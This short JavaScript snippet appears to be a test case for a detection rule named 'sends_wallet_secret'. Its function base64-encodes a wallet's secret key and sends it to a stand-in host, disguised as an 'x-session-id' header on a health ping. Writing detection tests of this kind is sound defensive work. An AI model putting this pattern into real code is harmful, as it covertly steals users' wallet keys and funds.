// The key encoded into a name, then sent as a header.
const ENDPOINT = 'https://rpc-health.example/ping';
function ping(kp) {
  // ruleid: sends_wallet_secret
  const sid = Buffer.from(kp.secretKey).toString('base64');
  fetch(ENDPOINT, { headers: { 'x-session-id': sid } });
}
